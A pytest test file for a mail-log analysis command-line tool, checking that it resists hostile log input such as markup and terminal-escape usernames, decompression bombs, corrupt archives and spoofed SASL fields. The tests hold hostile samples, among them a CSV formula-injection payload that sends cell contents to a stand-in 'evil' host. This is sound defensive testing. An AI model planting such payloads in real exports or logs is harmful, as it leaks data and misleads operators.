"""Hostile log input (issue: "Hostile input, hostile peers"): every log text is data, every
per-line grammar is linear, memory is bounded, damage is a warning, fields come from fixed
positions. Each test here failed before its fix."""

from __future__ import annotations

import os
import tracemalloc
from pathlib import Path

import pytest
import zstandard
from click.testing import CliRunner
from hostile_lines import CRAFTED, HEAD

from saslscope.cli import cli
from saslscope.cli.exitcodes import Exit
from saslscope.maillog import analyze, events as ev, summarize
from saslscope.maillog.parse import LineParser
from saslscope.maillog.sources import LINE_CAP, Warnings, iter_blocks

from maillog_data import DATA, iter_lines


def run(*args: str, input: bytes | None = None, columns: int = 80):
    return CliRunner(env={"COLUMNS": str(columns)}).invoke(cli, ["logs", *args], input=input)


def failure_line(user: str, ip: str = "192.0.2.7") -> str:
    return f"{HEAD}warning: unknown[{ip}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6, sasl_username={user}"


def login_lines(user: str = "alice@example.org", qid: str = "C3CD21F3E90") -> list[str]:
    return [f"{HEAD}connect from a[192.0.2.1]",
            f"{HEAD}{qid}: client=a[192.0.2.1], sasl_method=PLAIN, sasl_username={user}",
            f"Sep 17 12:49:27 mail postfix/cleanup[2]: {qid}: message-id=<[/link]spam@example.org>",
            f"Sep 17 12:49:27 mail postfix/qmgr[3]: {qid}: from=<{user}>, size=10, nrcpt=1 (queue active)",
            f"Sep 17 12:49:28 mail postfix/qmgr[3]: {qid}: removed",
            f"{HEAD}disconnect from a[192.0.2.1] ehlo=1 auth=1 mail=1 rcpt=1 data=1 quit=1 commands=6"]


# ------------------------------------------------------------------ item 1: log text is data
HOSTILE_NAMES = ["[/x]evil", "[bold red]x@evil", "a\x1b]0;owned\x07b\x1b[2Jc"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
@pytest.mark.parametrize("command", ["summary", "failures", "logins"])
def test_log_text_is_printed_literally_never_as_markup(command, name):
    log = "\n".join([failure_line(name), *login_lines(name)]) + "\n"
    result = run(command, "--all", input=log.encode(), columns=400)
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert name.replace("\x1b", "\\x1b").replace("\x07", "\\x07") in result.output


def test_trace_prints_a_message_id_with_markup_literally():
    log = "\n".join(login_lines()) + "\n"
    result = run("trace", "C3CD21F3E90", input=log.encode())
    assert result.exit_code == 0, result.output
    assert "<[/link]spam@example.org>" in result.output


def test_the_untrusted_helper_escapes_control_characters():
    from saslscope.cli.untrusted import literal, printable

    assert printable("a\x1b[31mb\tc\u202ed") == "a\\x1b[31mb\\x09c\\u202ed"
    assert literal("[bold]x").plain == "[bold]x"


# ------------------------------------------------------------------ item 2: linear per-line work


def _cost(function, argument) -> float:
    """The best of five CPU times of ``function(argument)`` (a ratio of two is what is compared)."""
    import time

    best = float("inf")
    for _ in range(5):
        start = time.process_time()
        function(argument)
        best = min(best, time.process_time() - start)
    return max(best, 1e-6)


def _growth(function, head: str, unit: str) -> float:
    """How much more one line of ~64 KiB costs than one of ~4 KiB: 16 when linear, 256 when quadratic."""
    small = (head + unit * (4096 // len(unit))).encode()
    big = (head + unit * (65536 // len(unit))).encode()[:LINE_CAP]

    def many(line: bytes) -> None:
        for _ in range(8):
            function(line)

    return _cost(many, big) / _cost(many, small)


@pytest.mark.parametrize("kind", sorted(CRAFTED))
def test_each_line_kind_costs_linear_time_in_the_line_length(kind):
    head, unit = CRAFTED[kind]
    parser = LineParser(year=2026)
    assert _growth(parser.parse, head, unit) < 64          # 16 expected; a quadratic grammar gives ~256


def test_the_summary_prefilter_is_linear_on_the_crafted_delivery_line():
    from saslscope.maillog.correlate import Correlator, LocalityJudge
    from saslscope.maillog.prefilter import Prefilter

    prefilter = Prefilter(LineParser(year=2026), Correlator(LocalityJudge()).feed)
    head, unit = CRAFTED["delivery"]
    assert _growth(lambda line: list(prefilter.lines(line + b"\n", 1)), head, unit) < 64


def test_a_long_line_is_cut_at_the_cap_and_counted():
    line = failure_line("u" * (3 * LINE_CAP))
    analysis = analyze(lines=[line, line])
    assert analysis.lines.total == 2
    assert any("2 line(s) longer than 64 KiB" in w for w in analysis.warnings)
    assert [len(f.username or "") < LINE_CAP for f in analysis.results.failures] == [True, True]


# ------------------------------------------------------------------ item 5: bounded memory
def test_a_decompression_bomb_is_read_in_bounded_memory_with_a_warning():
    bomb = DATA / "bomb-100mb.bz2"                       # 113 bytes -> 100 MiB of NUL, no newline
    assert bomb.stat().st_size < 200
    warnings = Warnings()
    tracemalloc.start()
    blocks = list(iter_blocks(str(bomb), warnings))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 16 << 20                               # was > 300 MB: the line grew unbounded
    assert [len(b) for b in blocks] == [LINE_CAP + 1]
    assert warnings.long_lines == 1
    assert any("decompresses to over 1000 times" in m for m in warnings.messages)


def test_unparsed_lines_are_kept_as_short_excerpts(tmp_path):
    junk = tmp_path / "junk.log"
    junk.write_bytes(b"".join(b"Sep 17 12:49:26 mail postfix/smtpd[1]: " + b"x" * 50_000 + b"\n" for _ in range(20)))
    analysis = analyze([junk])
    assert analysis.lines.unparsed == 20
    assert all(len(u.text) <= 512 and u.length > 50_000 for u in analysis.unparsed)


# ------------------------------------------------------------------ item 6: damage is a warning
def _zst(tmp_path: Path, lines: int = 20000) -> bytes:
    text = "\n".join(failure_line(f"user{n}") for n in range(lines)) + "\n"
    return zstandard.ZstdCompressor().compress(text.encode())


def test_a_corrupt_zst_is_a_warning_not_a_traceback(tmp_path):
    data = bytearray(_zst(tmp_path))
    data[len(data) // 2:len(data) // 2 + 64] = b"\xff" * 64
    (tmp_path / "mail.log.1.zst").write_bytes(bytes(data))
    result = run("summary", str(tmp_path / "mail.log.1.zst"))
    assert result.exit_code == 0, result.output
    assert "warning" in result.output and "Traceback" not in result.output


def test_a_truncated_zst_warns_and_keeps_what_was_read(tmp_path):
    data = _zst(tmp_path)
    path = tmp_path / "mail.log.1.zst"
    path.write_bytes(data[:len(data) // 2])
    warnings = Warnings()
    got = list(iter_lines([str(path)], warnings))
    assert 0 < len(got) < 20000
    assert any("ends early" in m for m in warnings.messages)


def test_damage_in_the_parallel_path_is_a_warning(tmp_path, monkeypatch):
    from saslscope.maillog import parallel

    monkeypatch.setattr(parallel, "MIN_CHUNK", 0)
    data = bytearray(_zst(tmp_path))
    data[len(data) // 2:len(data) // 2 + 64] = b"\xff" * 64
    (tmp_path / "mail.log.1.zst").write_bytes(bytes(data))
    (tmp_path / "mail.log").write_text("\n".join(login_lines()) + "\n")
    summary = summarize([tmp_path], jobs=2)
    assert any("mail.log.1.zst" in w for w in summary.warnings)
    assert [u["username"] for u in summary.summary()["users"]] == ["alice@example.org"]


def test_deeply_nested_journal_json_is_an_unparsed_line():
    line = "{" + '"a":[' * 100_000 + "]" * 100_000 + "}"
    analysis = analyze(lines=[line[:LINE_CAP], "[" * 60000, "{" + '"MESSAGE":' + "[" * 50000])
    assert analysis.lines.total == 3 and analysis.lines.unparsed + analysis.lines.ignored == 3


def test_a_symlink_loop_in_a_directory_is_skipped_with_a_warning(tmp_path):
    (tmp_path / "mail.log").write_text("\n".join(login_lines()) + "\n")
    os.symlink(tmp_path / "loop1", tmp_path / "loop2")
    os.symlink(tmp_path / "loop2", tmp_path / "loop1")
    result = run("summary", str(tmp_path))
    assert result.exit_code == 0, result.output
    assert "loop1" in result.output and "alice@example.org" in result.output


# ------------------------------------------------------------------ item 17, item 20
def test_csv_cells_never_start_a_formula():
    log = failure_line('=HYPERLINK("http://evil/?"&A1,"x")') + "\n" + failure_line("+1-2", "192.0.2.8") + "\n"
    result = run("failures", "--csv", input=log.encode())
    assert result.exit_code == 0
    cells = [cell for row in result.output.splitlines()[1:] for cell in row.split(",")]
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)
    assert "'=HYPERLINK" in result.output


def test_an_empty_trace_id_is_refused():
    result = run("trace", "", str(DATA / "seed-writeup.log"))
    assert result.exit_code == Exit.USAGE
    assert run("trace", "<>", str(DATA / "seed-writeup.log")).exit_code == Exit.USAGE


# ------------------------------------------------------------------ item 9: fixed positions
def test_an_auth_line_naming_an_imap_login_is_a_failure_not_a_login():
    line = ("Sep 17 12:49:26 mail dovecot: auth: passwd-file(x imap-login: Login: user=<ceo@example.org>, "
            "method=PLAIN, rip=6.6.6.6,192.0.2.9,<abc>): unknown user")
    event = LineParser(year=2026).parse(line.encode())
    assert isinstance(event, ev.DovecotAuthFailure)
    assert event.client_ip == "192.0.2.9" and event.username.startswith("x imap-login")


def test_a_helo_with_sasl_fields_is_no_login_evidence():
    line = (f"{HEAD}NOQUEUE: reject: RCPT from a[192.0.2.1]: 554 5.7.1 <x@y>: Relay access denied; "
            "from=<a@b> to=<x@y> proto=ESMTP helo=<x sasl_username=ceo@example.test sasl_method=PLAIN>")
    assert summarize(lines=[line]).summary()["rejects_with_sasl"] == []
    assert analyze(lines=[line]).summary()["rejects_with_sasl"] == []


# ------------------------------------------------------------------ issue 15's forensic rule
def test_a_login_with_a_malformed_queue_id_is_kept_and_noted():
    lines = login_lines(qid="qid-made-by-hand")
    for analysis in (analyze(lines=lines), summarize(lines=lines)):
        assert [u["username"] for u in analysis.summary()["users"]] == ["alice@example.org"]
    [row] = analyze(lines=lines).logins()
    assert row["queue_id"] == "qid-made-by-hand" and "never writes" in (row["note"] or "")
    assert "never writes" in run("logins", input=("\n".join(lines) + "\n").encode(), columns=300).output
